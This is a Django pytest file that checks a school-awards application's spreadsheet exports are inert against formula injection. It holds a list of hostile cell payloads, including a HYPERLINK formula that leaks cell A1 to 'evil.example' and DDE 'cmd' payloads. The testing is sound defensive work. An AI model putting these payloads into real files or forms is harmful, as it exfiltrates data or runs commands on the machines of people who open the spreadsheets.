"""Spreadsheets out are inert: user text that looks like a formula is written as text, in every export.

Each export is fetched through its page with hostile text in the fields it shows; ``assert_inert`` then reads the
file's XML: no formula anywhere, and every text cell that starts with a formula character carries Excel's quote
prefix (so that editing the cell keeps it text).
"""

import io
import re
import zipfile
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from tests.factories import RegistrationFactory, SchoolYearFactory, StaffFactory, TeamFactory, title
from thiduakhenthuong.core import audit
from thiduakhenthuong.core.spreadsheets import FORMULA_TRIGGERS, make_inert, xlsx_response
from thiduakhenthuong.organization.models import Role

pytestmark = pytest.mark.django_db

#: What an attacker would type into a name, a position or a team name.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def assert_inert(content: bytes, *expected: str) -> None:
    """No sheet of the .xlsx holds a formula; every ``expected`` text is there as quote-prefixed text."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", archive.read(name)), f"formula in {name}"
    workbook = load_workbook(io.BytesIO(content))
    texts = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    if cell.value.startswith(FORMULA_TRIGGERS):
                        assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} {cell.value!r} has no quote prefix"
                    texts[cell.value] = cell
    for value in expected:
        # openpyxl reads a carriage return back as a line feed
        assert value in texts or value.replace("\r", "\n") in texts, f"{value!r} missing from the export"


def test_make_inert_keeps_numbers_and_dates_and_turns_formulas_into_text():
    workbook = Workbook()
    workbook.active.append([*PAYLOADS, "#N/A", "bình thường", -5, 1.5, date(2024, 5, 31)])
    response = xlsx_response(workbook, "thử.xlsx")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''th%E1%BB%AD.xlsx"
    assert_inert(response.content, *PAYLOADS, "#N/A")
    row = [cell for cell in load_workbook(io.BytesIO(response.content)).active[1]]
    assert [cell.value for cell in row[-5:-1]] == ["#N/A", "bình thường", -5, 1.5]
    assert row[-1].value.date() == date(2024, 5, 31)
    assert not row[-4].quotePrefix  # plain text is left as it is


def test_make_inert_is_idempotent():
    workbook = Workbook()
    workbook.active.append(["=1+1"])
    make_inert(make_inert(workbook))
    assert workbook.active["A1"].data_type == "s" and workbook.active["A1"].quotePrefix


def test_staff_export_is_inert(client_for, school, team):
    client = client_for(Role.PRINCIPAL)
    team.name = PAYLOADS[1]
    team.save()
    StaffFactory(school=school, team=team, full_name=PAYLOADS[0], position=PAYLOADS[3], phone=PAYLOADS[2])
    StaffFactory(school=school, full_name=PAYLOADS[4], position=PAYLOADS[5])
    response = client.get(reverse("organization:staff_export"))
    assert_inert(response.content, *PAYLOADS)


def test_staff_import_template_is_inert(client_for, school):
    TeamFactory(school=school, name=PAYLOADS[0])
    response = client_for(Role.PRINCIPAL).get(reverse("organization:staff_import_template"))
    assert_inert(response.content)
    assert PAYLOADS[0] in load_workbook(io.BytesIO(response.content))["Hướng dẫn"]["A5"].value


def test_registration_export_is_inert(client_for, school):
    year = SchoolYearFactory(school=school, start_date=date(2023, 9, 5), end_date=date(2024, 5, 31), is_current=True)
    team = TeamFactory(school=school, name=PAYLOADS[1])
    RegistrationFactory(school_year=year, staff=StaffFactory(school=school, team=team, full_name=PAYLOADS[0]))
    RegistrationFactory(school_year=year, staff=None, team=team, title=title("TTLDTT", "collective"))
    response = client_for(Role.PRINCIPAL).get(reverse("awards:registration_export"), {"year": year.pk})
    assert_inert(response.content, PAYLOADS[0], PAYLOADS[1])


@pytest.mark.parametrize("url", ["awards:evaluation_import", "awards:award_import"])
def test_import_templates_are_inert(client_for, url):
    response = client_for(Role.PRINCIPAL).get(reverse(url), {"template": "1"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert_inert(response.content)


def test_audit_export_is_inert(client_for, school):

    client = client_for(Role.PRINCIPAL)
    for payload in PAYLOADS:
        audit.record(
            actor=client.staff.user,
            action="organization.staff.create",
            obj=StaffFactory(school=school, full_name=payload),
        )
    assert_inert(client.get(reverse("audit_export")).content, *PAYLOADS)
